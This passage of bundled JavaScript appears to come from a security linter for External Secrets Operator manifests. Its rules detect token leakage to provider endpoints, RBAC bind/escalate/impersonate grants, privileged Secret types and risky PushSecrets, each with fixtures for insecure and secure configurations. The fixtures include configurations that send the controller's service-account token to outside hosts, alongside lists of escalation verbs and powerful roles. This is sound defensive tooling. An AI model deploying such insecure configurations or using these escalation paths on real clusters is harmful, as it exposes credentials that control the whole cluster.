  const address = asText(valueAt(config, keysOf(to))) ?? known?.endpoints?.find(({ field }) => field === to)?.default ?? "";
  const { scheme, host } = parseAddress(address) ?? {};
  if (scheme === "http") return { says: `${host ?? to} over http`, severity: "high" };
  if (host === void 0) return { says: `the server in ${to}`, severity: "medium" };
  return allowedEndpoints && !isHostIn(host, allowedEndpoints) ? { says: `${host}, which is not an allowed endpoint`, severity: "high" } : { says: host, severity: "medium" };
}

// src/rules/operator-token-sent-to-provider.ts
var operator_token_sent_to_provider_default = defineRule({
  id: "operator-token-sent-to-provider",
  title: "A store makes the operator send its own token, or one as mighty, to the store's endpoint",
  severities: ["critical", "high", "medium"],
  kinds: kindsWith(
    ({ ownTokens, serviceAccounts = [] }) => ownTokens !== void 0 || serviceAccounts.some(({ needsAudience }) => needsAudience)
  ),
  needs: ["connections"],
  why: "Who writes the store chooses the server, and the server receives the token of the operator's own ServiceAccount. With it, it is the operator: in a default install it reads and writes every Secret of the cluster.",
  remedy: "Name a ServiceAccount of its own: `serviceAccountRef` with `audiences` in the block that the message names (Vault: `auth.kubernetes.serviceAccountRef`). The role at the provider is then bound to that ServiceAccount. Who may write stores and generators is another line of defence: only operators.",
  references: [
    "https://external-secrets.io/latest/provider/hashicorp-vault/",
    "https://external-secrets.io/latest/provider/ibm-secrets-manager/"
  ],
  guide: ["PC3", "TM4"],
  supersedes: ["token-without-audience"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: # finding: auth.kubernetes sends the controller pod's own token to vault.example.com; name a ServiceAccount in auth.kubernetes.serviceAccountRef
          mountPath: kubernetes
          role: shop
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: VaultDynamicSecret
metadata: { name: database, namespace: shop }
spec:
  path: database/creds/shop
  provider:
    server: http://vault.vault:8200
    auth:
      kubernetes: { role: shop } # finding: sends the controller pod's own token to vault.vault over http
`,
    `
# Operators write a cluster-wide store, so the server is theirs: that it listens in clear text, or that nobody listed it, is worse.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: https }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: { role: shop } # finding[medium]: to vault.example.com
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: http }
spec:
  provider:
    vault:
      server: http://vault.vault.svc:8200
      auth:
        kubernetes: { role: shop } # finding[high]: to vault.vault.svc over http
`,
    `
# config: { allowedEndpoints: ['*.example.com'] }
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: listed }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: { role: shop } # finding[medium]: to vault.example.com
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: elsewhere }
spec:
  provider:
    vault:
      server: https://vault.example.org
      auth:
        kubernetes: { role: shop } # finding[high]: to vault.example.org, which is not an allowed endpoint
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: ibm, namespace: shop }
spec:
  provider:
    ibm:
      serviceUrl: https://shop.eu-de.secrets-manager.appdomain.cloud
      auth:
        containerAuth:
          profile: shop
          tokenLocation: /var/run/secrets/kubernetes.io/serviceaccount/token # finding: sends a file of the controller's pod to iam.example.com
          iamEndpoint: https://iam.example.com
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: infisical, namespace: shop }
spec:
  provider:
    infisical:
      hostAPI: https://infisical.example.com/api
      secretsScope: { projectSlug: shop, environmentSlug: live }
      auth:
        kubernetesAuthCredentials: # finding: sends the controller pod's own token to infisical.example.com
          identityId: { name: infisical, key: id }
`,
    `
# By its name, which is the same token: without audiences it is one for the API server.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: own }
spec:
  provider:
    vault:
      server: http://vault.vault.svc:8200
      auth:
        kubernetes:
          role: eso
          serviceAccountRef: # finding[high]: it sends a token of the operator's own ServiceAccount eso/external-secrets to vault.vault.svc over http, and the token is good for the API server
            name: external-secrets
            namespace: eso
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: as-mighty }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          role: eso
          serviceAccountRef: # finding[medium]: it sends a token of ServiceAccount vault/auth, which has rights to the Secrets of all namespaces, to vault.example.com
            name: auth
            namespace: vault
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: external-secrets, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: vault }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: ServiceAccount, name: auth, namespace: vault }
`,
    `
# Old operators did it for Akeyless as well.
apiVersion: external-secrets.io/v1beta1
kind: SecretStore
metadata: { name: akeyless, namespace: shop }
spec:
  provider:
    akeyless:
      akeylessGWApiURL: https://akeyless.example.com
      authSecretRef:
        kubernetesAuth: { accessID: p-1, k8sConfName: shop } # finding: to akeyless.example.com
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: external-secrets, image: "ghcr.io/external-secrets/external-secrets:v0.10.7" }
`
  ],
  good: [
    `
# With an audience the token opens nothing but Vault, and neither does one of an ordinary ServiceAccount open the cluster.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: audience }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: eso, serviceAccountRef: { name: external-secrets, namespace: eso, audiences: [vault] } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: ordinary }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: eso, serviceAccountRef: { name: vault, namespace: eso } } }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: external-secrets, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: account, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: other-way, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: shop }, tokenSecretRef: { name: vault } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          role: shop
          serviceAccountRef: \${VAULT_ACCOUNT}
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: unknown, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes: \${VAULT_KUBERNETES_AUTH}
`,
    `
# IBM's own token for IBM's own endpoint; and Akeyless with an operator that is not known to be that old.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: ibm, namespace: shop }
spec:
  provider:
    ibm:
      serviceUrl: https://shop.eu-de.secrets-manager.appdomain.cloud
      auth: { containerAuth: { profile: shop } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: akeyless, namespace: shop }
spec:
  provider:
    akeyless:
      akeylessGWApiURL: https://akeyless.example.com
      authSecretRef: { kubernetesAuth: { accessID: p-1, k8sConfName: shop } }
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    yield* mightyAccounts(manifest, connected, world);
    for (const token of connected.known?.ownTokens ?? []) {
      if (!isAsked(token, connected) || token.until && runsIn({ until: token.until }, world) !== "yes") continue;
      const receiver = receiverOf(token.to, connected, world);
      const isTheirs = manifest.kind.startsWith("Cluster");
      yield {
        path: [...connected.path, ...keysOf(token.field)],
        severity: isTheirs ? receiver.severity : "critical",
        message: `${token.field} sends ${token.what} to ${receiver.says}; ${token.instead}`
      };
    }
  }
});

// src/rules/overlapping-installs.ts
var overlapping_installs_default = defineRule({
  id: "overlapping-installs",
  title: "Two installs of the operator get in each other’s way",
  severities: ["high"],
  kinds: [...WORKLOAD_KINDS, "admissionregistration.k8s.io/ValidatingWebhookConfiguration"],
  why: "Two controllers that take the same ExternalSecrets for their own defeat the split: each has the credentials and rights for all of them, and they overwrite each other’s Secrets. Of two webhook configurations with one name only the later stays, so that one install’s stores are checked by a webhook that may be gone tomorrow.",
  remedy: "Give each install its own namespace (`scopedNamespace` with `scopedRBAC: true`) or its own `controllerClass`, and name the class in `spec.controller` of its stores. The names of the webhook configurations are fixed: let one install have the webhook and set `webhook.create: false` in the others.",
  references: [
    "https://external-secrets.io/latest/guides/controller-class/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["RM7"],
  bad: [
    `
# One file, so one cluster.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-a }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: # finding: it takes the same objects as Deployment eso/external-secrets: one watches all namespaces, the other namespace team-a, both as controller class default
            - --namespace=team-a
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-b }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [--namespace=team-b, --controller-class=team-b]
`,
    `
# config: { clusters: { default: { complete: true } } }
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules: [{ apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }]
    clientConfig: { service: { name: external-secrets-webhook, namespace: eso } }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata:
  name: secretstore-validate # finding: ValidatingWebhookConfiguration secretstore-validate is there twice, for the webhooks in namespaces eso and team-a
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules: [{ apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }]
    clientConfig: { service: { name: external-secrets-webhook, namespace: team-a } }
`
  ],
  good: [
    `
# Each in its own namespace, or with its own class.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-a }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--namespace, team-a] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: team-b }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--namespace=team-b] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--controller-class=platform] }
---
# Two ValidatingWebhookConfigurations of two names, and the same one twice.
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: one }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules: [{ apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }]
    clientConfig: { service: { name: webhook, namespace: team-a } }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: other }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules: [{ apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }]
    clientConfig: { service: { name: webhook, namespace: team-b } }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: other }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules: [{ apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE], resources: [secretstores] }]
    clientConfig: { service: { name: webhook, namespace: team-b } }
---
# Filled in later.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: later }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: ["--namespace=\${TEAM}"] }
`,
    `
# Only one of them works at a time; and the same object twice is one.
apiVersion: apps/v1
kind: Deployment
metadata: { name: blue, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.8.0", args: [--enable-leader-election] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: green, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--enable-leader-election=true] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: green, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [--enable-leader-election=true] }
`
  ],
  *check(manifest, world) {
    const component = world.eso.componentOf(manifest);
    if (component?.role === "controller") yield* ofController(component, world);
    yield* ofWebhooks(manifest, world);
  }
});
function* ofController(controller, world) {
  const { manifest } = controller.pod;
  const reach = reachOf2(controller);
  const all = world.eso.controllers;
  for (const other of reach ? all.slice(0, all.indexOf(controller)) : []) {
    const theirs = reachOf2(other);
    const isAnother = nameOf(other.pod.manifest) !== nameOf(manifest) && shareCluster(other.pod.manifest, manifest, world);
    if (!reach || !theirs || !isAnother || !overlap(theirs, reach)) continue;
    yield {
      path: [...controller.container.path, "args"],
      message: `it takes the same objects as ${nameOf(other.pod.manifest)}: ${bothWatch(theirs, reach)} as controller class ${reach.controllerClass}`,
      related: [
        { manifest: other.pod.manifest, path: [...other.container.path, "args"], message: "the other controller" }
      ]
    };
    return;
  }
}
var bothWatch = (a, b) => a.namespace === b.namespace ? `both watch ${namespaceText(b.namespace)}` : `one watches ${namespaceText(a.namespace)}, the other ${namespaceText(b.namespace)}, both`;
var namespaceText = (namespace) => namespace === void 0 ? "all namespaces" : `namespace ${namespace}`;
function* ofWebhooks(manifest, world) {
  const own = world.eso.webhooks.findIndex((entry) => entry.manifest === manifest);
  const namespace = own < 0 ? void 0 : namespaceOf(world.eso.webhooks[own]);
  if (namespace === void 0) return;
  const earlier = world.eso.webhooks.slice(0, own);
  const other = earlier.find(
    (entry) => entry.manifest.name === manifest.name && (namespaceOf(entry) ?? namespace) !== namespace && shareCluster(entry.manifest, manifest, world)
  );
  if (!other) return;
  yield {
    path: ["metadata", "name"],
    message: `${nameOf(manifest)} is there twice, for the webhooks in namespaces ${namespaceOf(other)} and ${namespace}, and only the later stays`,
    related: [{ manifest: other.manifest, path: ["metadata", "name"], message: "the other one" }]
  };
}
var namespaceOf = (entry) => entry && asText(entry.manifest.get(...entry.path, "clientConfig", "service", "namespace"));

// src/model/rbac/escalation.ts
var RBAC = "rbac.authorization.k8s.io";
var DANGERS = [
  { verb: "bind", group: RBAC, resource: "roles", inNamespace: true },
  { verb: "bind", group: RBAC, resource: "clusterroles", inNamespace: true },
  { verb: "escalate", group: RBAC, resource: "roles", inNamespace: true },
  { verb: "escalate", group: RBAC, resource: "clusterroles", inNamespace: false },
  { verb: "impersonate", group: "", resource: "users", inNamespace: false },
  { verb: "impersonate", group: "", resource: "groups", inNamespace: false },
  { verb: "impersonate", group: "", resource: "serviceaccounts", inNamespace: true }
];
var MIGHTY = /* @__PURE__ */ new Set(["cluster-admin", "admin", "edit", "system:masters", "system:admin", "kubernetes-admin"]);
var mightyNames = (rule2, verb) => rule2.resourceNames.filter((name) => MIGHTY.has(name) || name === "" && verb === "escalate");
function escalationsOf(rule2) {
  const isOfAnyName = rule2.resourceNames.length === 0;
  return rule2.verbs.flatMap((entry, i) => {
    const dangers = DANGERS.filter(
      (danger) => isGiven(rule2, entry, danger) && (isOfAnyName || mightyNames(rule2, danger.verb).length > 0)
    );
    if (dangers.length === 0) return [];
    return {
      path: [...rule2.path, "verbs", i],
      verbs: [...new Set(dangers.map(({ verb }) => verb))],
      resources: [...new Set(dangers.map(({ resource }) => resource))],
      inNamespace: [...new Set(dangers.filter((danger) => danger.inNamespace).map(({ resource }) => resource))],
      names: [...new Set(dangers.flatMap(({ verb }) => mightyNames(rule2, verb)))]
    };
  });
}
function isGiven(rule2, entry, { verb, group, resource }) {
  const access = { group, resource, verbs: [verb] };
  const isMeant = entry === verb || entry === "*" && namesGroup(rule2, group);
  return isMeant && verbsGiven({ ...rule2, verbs: [entry] }, access).length > 0;
}

// src/rules/privilege-escalation-verbs.ts
var privilege_escalation_verbs_default = defineRule({
  id: "privilege-escalation-verbs",
  title: "Rights can be raised with bind, escalate or impersonate",
  severities: ["high"],
  kinds: ROLE_KINDS,
  why: "These three verbs step over the rule that nobody hands out more than they hold: bind and escalate give any role to oneself, impersonate makes one somebody else, cluster administrators included.",
  remedy: "Take the verb out of the role: the operator needs none of them in any version. Where somebody must hand out one role, allow bind on that one by `resourceNames`.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#privilege-escalation-risks",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping"
  ],
  guide: ["TM6"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-extra }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get]
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [roles, clusterroles]
    verbs:
      - get
      - bind # finding: ServiceAccount eso/controller (in all namespaces) can bind roles, clusterroles
      - escalate # finding: ServiceAccount eso/controller (in all namespaces) can escalate roles, clusterroles
  - apiGroups: [""]
    resources: [users, groups, serviceaccounts]
    verbs: [impersonate] # finding: can impersonate users, groups, serviceaccounts
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    verbs: ["*"] # finding: can bind, escalate clusterroles
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-extra }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-extra }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# In one namespace: roles and ServiceAccounts there. Names help only while they are harmless.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: team-lead }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create]
  - apiGroups: [""]
    resources: [users, serviceaccounts]
    verbs: [impersonate] # finding: Group leads (in namespace shop) can impersonate serviceaccounts
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    resourceNames: [view, cluster-admin]
    verbs: [bind] # finding: can bind clusterroles named cluster-admin
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [roles]
    resourceNames: [""]
    verbs: [escalate] # finding: can escalate roles named "" (new ones)
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: team-lead, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: team-lead }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: leads }
`
  ],
  good: [
    `
# One harmless role may be handed out; escalate on ClusterRoles and people to impersonate are nothing to a RoleBinding.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: team-lead }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, create]
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    resourceNames: [view]
    verbs: [bind]
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    verbs: [escalate]
  - apiGroups: [""]
    resources: [users, groups]
    verbs: [impersonate]
  - apiGroups: [example.com]
    resources: [roles, ports]
    verbs: [bind, escalate]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: team-lead, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: team-lead }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: leads }
`,
    `
# Another operator's rights are not this tool's business.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: tenants }
rules:
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [roles, clusterroles]
    verbs: [bind, escalate]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: tenants }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: tenants }
subjects:
  - { kind: ServiceAccount, name: tenants, namespace: tenants }
`
  ],
  *check(role, world) {
    const grants = inScope(world.rbac.grantsOf(role), world);
    if (grants.length === 0) return;
    for (const rule2 of policyRules(role)) {
      for (const escalation of escalationsOf(rule2)) {
        const held = grants.filter(({ namespace }) => namespace === void 0 || escalation.inNamespace.length > 0);
        if (held.length === 0) continue;
        const isEverywhere = held.some(({ namespace }) => namespace === void 0);
        yield {
          path: escalation.path,
          message: `${holders(held)} can ${whatIsDone(escalation, isEverywhere)}`,
          related: bindingsOf(held)
        };
      }
    }
  },
  fix: (fault) => unsafe(NEEDED5, withoutVerb(fault))
});
var NEEDED5 = "Does the holder hand out roles, or act for others, on purpose? It cannot any more.";
function whatIsDone({ verbs, resources, inNamespace, names }, isEverywhere) {
  const which = names.length > 0 ? ` named ${names.map((name) => name || '"" (new ones)').join(", ")}` : "";
  return `${verbs.join(", ")} ${(isEverywhere ? resources : inNamespace).join(", ")}${which}`;
}

// src/rules/privileged-secret-type.ts
var privileged_secret_type_default = defineRule({
  id: "privileged-secret-type",
  title: "An ExternalSecret makes a Secret that Kubernetes turns into a credential of its own",
  severities: ["critical", "medium"],
  kinds: FETCHING_KINDS,
  why: "Kubernetes fills a Secret of type service-account-token with a lasting token of the ServiceAccount that its annotation names, and takes a bootstrap token as a sign-in for new nodes. Whoever may write an ExternalSecret, but no Secret, becomes that ServiceAccount, or a node (CVE-2026-42876).",
  remedy: "Use `template.type: Opaque`, or leave the type out. Upgrade to External Secrets Operator 2.4.1 or newer, which refuses these types; workloads get tokens that end from a projected volume.",
  references: [
    "https://github.com/advisories/GHSA-fq7h-9x26-6j22",
    "https://kubernetes.io/docs/concepts/configuration/secret/#secret-types"
  ],
  guide: ["TM3", "AC3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: token, namespace: shop }
spec:
  target:
    template:
      type: kubernetes.io/service-account-token # finding: Kubernetes puts a lasting token of ServiceAccount admin into Secret token
      metadata:
        annotations: { kubernetes.io/service-account.name: admin }
  dataFrom: [{ extract: { key: anything } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: join }
spec:
  namespaces: [kube-system]
  externalSecretSpec:
    target:
      name: bootstrap-token-abcdef
      template:
        type: bootstrap.kubernetes.io/token # finding: Secret bootstrap-token-abcdef lets new nodes join the cluster
    dataFrom: [{ extract: { key: anything } }]
`,
    `
# This operator refuses it.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.4.1" }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: token, namespace: shop }
spec:
  target:
    template:
      type: kubernetes.io/service-account-token # finding[medium]: Kubernetes puts a lasting token of a ServiceAccount into Secret token; the operator in the set refuses it
  dataFrom: [{ extract: { key: anything } }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: registry, namespace: shop }
spec:
  target: { template: { type: kubernetes.io/dockerconfigjson, data: { .dockerconfigjson: "{{ .config }}" } } }
  data: [{ secretKey: config, remoteRef: { key: registry } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: later, namespace: shop }
spec:
  target: { template: { type: "\${TYPE}" } }
  data: [{ secretKey: config, remoteRef: { key: registry } }]
---
# Not a Secret, so its type means nothing.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: other, namespace: shop }
spec:
  target:
    manifest: { apiVersion: v1, kind: ConfigMap }
    template: { type: kubernetes.io/service-account-token }
  data: [{ secretKey: config, remoteRef: { key: registry } }]
`
  ],
  *check(manifest, world) {
    const target = targetOf(manifest);
    if (!target || !isSecret(target)) return;
    const template = [...target.path, "template"];
    const account = manifest.get(...template, "metadata", "annotations", "kubernetes.io/service-account.name");
    const secret = `Secret ${target.name ?? "that it makes"}`;
    const effects = {
      "kubernetes.io/service-account-token": `Kubernetes puts a lasting token of ${typeof account === "string" ? `ServiceAccount ${account}` : "a ServiceAccount"} into ${secret}`,
      "bootstrap.kubernetes.io/token": `${secret} lets new nodes join the cluster`
    };
    const type = manifest.get(...template, "type");
    const effect = Object.entries(effects).find(([privileged]) => privileged === type)?.[1];
    if (effect === void 0) return;
    const isRefused = runsIn({ until: "2.4.1" }, world) === "no";
    yield {
      path: [...template, "type"],
      message: isRefused ? `${effect}; the operator in the set refuses it` : effect,
      ...isRefused && { severity: "medium" }
    };
  },
  fix: ({ path }) => unsafe(TOKEN2, setting(path, "Opaque"))
});
var TOKEN2 = "Does anybody use the credential that Kubernetes makes of this Secret? The type of one that is there cannot change, so it has to be deleted once.";

// src/rules/push-secret-deletes-remote.ts
var push_secret_deletes_remote_default = defineRule({
  id: "push-secret-deletes-remote",
  title: "A PushSecret deletes what it pushed when it goes",
  severities: ["medium", "high"],
  kinds: PUSHING_KINDS,
  why: "With deletionPolicy Delete the provider loses the secret when the PushSecret, its source Secret or an entry of it is deleted: by a mistake in a pull request, by a namespace that is torn down, or by whoever may delete a PushSecret. Whatever else reads that secret fails.",
  remedy: "Set `deletionPolicy: None` and remove secrets at the provider on purpose. In an AWS store leave `secretsManager.forceDeleteWithoutRecovery` out, so that there is a time to bring them back.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/pushsecrets/"
  ],
  guide: ["PS3"],
  bad: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  deletionPolicy: Delete # finding: the secrets at the provider are deleted with the PushSecret
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: token }
spec:
  pushSecretSpec:
    deletionPolicy: Delete # finding[high]: ClusterSecretStore aws deletes them at once and for good (forceDeleteWithoutRecovery)
    secretStoreRefs: [{ kind: ClusterSecretStore, name: aws }]
    selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: aws }
spec:
  provider:
    aws:
      service: SecretsManager
      secretsManager: { forceDeleteWithoutRecovery: true }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: token, namespace: shop }
spec:
  deletionPolicy: None
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata: { name: by-default, namespace: shop }
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: token } }
---
# Here it says what becomes of the Secret in the cluster.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: token, namespace: shop }
spec:
  target: { deletionPolicy: Delete }
  data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  *check(manifest, world) {
    const path = [...specPathOf(manifest) ?? [], "deletionPolicy"];
    if (manifest.get(...path) !== "Delete") return;
    const final = referencesOf(manifest).stores.flatMap((reference) => storesOf(reference, world)).find((store) => store.get(...FORCE) === true);
    const message = "the secrets at the provider are deleted with the PushSecret, its source or an entry of it";
    yield final ? {
      path,
      severity: "high",
      message: `${message}, and ${final.kind} ${final.name} deletes them at once and for good (forceDeleteWithoutRecovery)`,
      related: [{ manifest: final, path: FORCE, message: "the store that deletes for good" }]
    } : { path, message };
  },
  fix: ({ path }) => ({
    safety: "unsafe",
    question: "Does anybody count on the secret at the provider going away with the PushSecret?",
    changes: [{ kind: "field", path, value: "None" }]
  })
});
var FORCE = ["spec", "provider", "aws", "secretsManager", "forceDeleteWithoutRecovery"];

// src/rules/push-secret-in-forbidden-namespace.ts
var push_secret_in_forbidden_namespace_default = defineRule({
  id: "push-secret-in-forbidden-namespace",
  title: "A PushSecret works in a namespace that should have none",
  severities: ["high", "low"],
  kinds: PUSHING_KINDS,
  why: "A PushSecret carries Secrets of its namespace out of the cluster. From the namespaces of Kubernetes or of the operator that can be the credentials that everything depends on.",
  remedy: "Move it to the namespace of the Secret’s owner, or remove it. If it belongs here, name the namespace under `allowedNamespaces.pushSecret` in this tool’s config; `sensitiveNamespaces` says which namespaces count as the cluster’s own.",
  references: [
    "https://external-secrets.io/latest/api/pushsecret/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["PS1", "AC2"],
  bad: [
    `
# config: { allowedNamespaces: { pushSecret: [backup] } }
apiVersion: external-secrets.io/v1alpha1
kind: PushSecret
metadata:
  name: certificate
  namespace: shop # finding: it works in namespace shop, which is not among the allowed namespaces
spec:
  secretStoreRefs: [{ name: vault }]
  selector: { secret: { name: certificate } }
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: everywhere }
spec:
